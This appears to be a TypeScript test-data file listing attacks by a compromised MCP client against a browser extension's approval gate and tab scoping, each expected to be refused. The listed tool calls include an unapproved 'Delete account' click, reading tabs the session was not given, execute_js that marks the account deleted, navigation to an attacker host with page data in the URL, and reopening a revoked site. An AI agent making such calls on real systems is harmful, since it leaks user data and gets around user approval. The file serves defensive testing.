import type { Mode } from '../../../shared/modes';

/**
 * Attacks through the MCP door (issue 29, docs/mcp.md): a compromised MCP client is a compromised
 * model that calls tools directly. Written as data like the other attack lists, but run by
 * `tests/e2e/mcp.e2e.ts`, which owns the MCP plumbing (the SDK client, the installed host); the
 * panel-driven harness (harness.ts) scripts a fake model instead. Blocked means the same here: every
 * prompt is denied, the page's state is unchanged, no other tab's text reaches the client and the
 * attacker's server receives nothing.
 */
export interface McpAttack {
  id: string;
  /** The threat-model item (docs/security.md "Threat model"). */
  item: number;
  what: string;
  /** The MCP mode the user turned on (Settings → MCP). */
  mode: Mode;
  /**
   * The client's calls in order; `tree` is the session tab's tree as the client read it first; `otherSite`
   * is the origin of the other tab's page (another site than the session's when `givenThenTakenBack`).
   */
  calls(v: { tree: string; otherTab: number; otherSite: string; attacker: string }): {
    name: string;
    args: Record<string, unknown>;
  }[];
  /**
   * Before the calls, the user gives the session the other tab (on another site) in the panel's tab
   * picker, the client reads it there, and the user takes it back: unticks it, or closes the tab.
   */
  givenThenTakenBack?: 'untick' | 'close';
  /** Some call's result must match (the refusal that blocked it). */
  result: RegExp;
  /** The user must have been asked at least this often (each time denied). */
  asks?: number;
}

/** The ref of a button in a tree the client read. */
export function buttonRef(tree: string, name: string): string {
  const ref = tree
    .split('\n')
    .find((l) => l.includes(`button "${name}"`))
    ?.match(/ref_\d+/)?.[0];
  if (!ref) throw new Error(`no button "${name}" in the tree`);
  return ref;
}

/** A string of the other tab (tests/fixtures/pages/mcp-secret.html) that must never reach the client. */
export const OTHER_TAB_SECRET = 'SECRET-MCP-4417';

export const MCP_ATTACKS: McpAttack[] = [
  {
    id: 'mcp-delete-without-approval',
    item: 2,
    what: 'a coding agent clicks "Delete account" directly: the approval gate asks in the panel, denied → not clicked',
    mode: 'act',
    calls: ({ tree }) => [{ name: 'click_ax', args: { ref_id: buttonRef(tree, 'Delete account') } }],
    result: /REFUSED BY THE USER: the user denied/,
    asks: 1,
  },
  {
    id: 'mcp-other-tab-read',
    item: 4,
    what: 'a coding agent reads a tab the user never gave the session (tabId argument, then switch_tab)',
    mode: 'act',
    calls: ({ otherTab }) => [
      { name: 'get_accessibility_tree', args: { tabId: otherTab } },
      { name: 'switch_tab', args: { tabId: otherTab } },
      { name: 'extract', args: { tabId: otherTab, what: 'text' } },
    ],
    result: /not one this session may use/,
  },
  {
    id: 'mcp-execute-js-in-ask',
    item: 6,
    what: 'a coding agent runs JavaScript while MCP is in Ask mode (read only)',
    mode: 'ask',
    calls: () => [{ name: 'execute_js', args: { code: 'window.__appState.deleted = true; document.title = "pwned"' } }],
    result: /tool_not_allowed: execute_js is not allowed/,
  },
  {
    id: 'mcp-execute-js-denied',
    item: 6,
    what: 'Dev mode: a coding agent runs JavaScript that deletes the account: asked first, denied → not run',
    mode: 'dev',
    calls: () => [{ name: 'execute_js', args: { code: 'window.__appState.deleted = true; document.title = "pwned"' } }],
    result: /REFUSED BY THE USER/,
    asks: 1,
  },
  {
    id: 'mcp-exfil-navigate',
    item: 1,
    what: "a coding agent navigates the session tab to the attacker's server with page data in the URL",
    mode: 'act',
    calls: ({ attacker }) => [{ name: 'navigate', args: { url: `${attacker}/leak/mcp?d=Hello%20from%20the%20page` } }],
    result: /REFUSED/,
    asks: 1,
  },
  {
    id: 'mcp-self-pick-tab',
    item: 4,
    what: "a coding agent tries to give itself another tab: the panel's picker request as a tool, then its tabId as text and as a number",
    mode: 'act',
    calls: ({ otherTab }) => [
      { name: 'mcp_pick_tab', args: { tabId: otherTab, pick: otherTab, allowed: true } },
      { name: 'get_accessibility_tree', args: { tabId: String(otherTab) } },
      { name: 'get_accessibility_tree', args: { tabId: otherTab } },
    ],
    result: /Only the user can give it another tab/,
  },
  {
    id: 'mcp-untick-keeps-site',
    item: 4,
    what: "the user gave the session a tab on another site, then took it back: the client opens that site again in a new tab and navigates its own tab there (the tick's approval of the site must go with the tab)",
    mode: 'act',
    givenThenTakenBack: 'untick',
    calls: ({ otherSite }) => [
      { name: 'new_tab', args: { url: `${otherSite}/mcp-secret.html` } },
      { name: 'get_accessibility_tree', args: {} },
      { name: 'navigate', args: { url: `${otherSite}/mcp-secret.html` } },
      { name: 'get_accessibility_tree', args: {} },
    ],
    result: /REFUSED BY THE USER/,
    asks: 2,
  },
  {
    id: 'mcp-closed-tab-keeps-site',
    item: 4,
    what: 'the user gave the session a tab on another site, then closed that tab: the client opens that site again in a new tab',
    mode: 'act',
    givenThenTakenBack: 'close',
    calls: ({ otherSite }) => [
      { name: 'new_tab', args: { url: `${otherSite}/mcp-secret.html` } },
      { name: 'get_accessibility_tree', args: {} },
    ],
    result: /REFUSED BY THE USER/,
    asks: 1,
  },
];
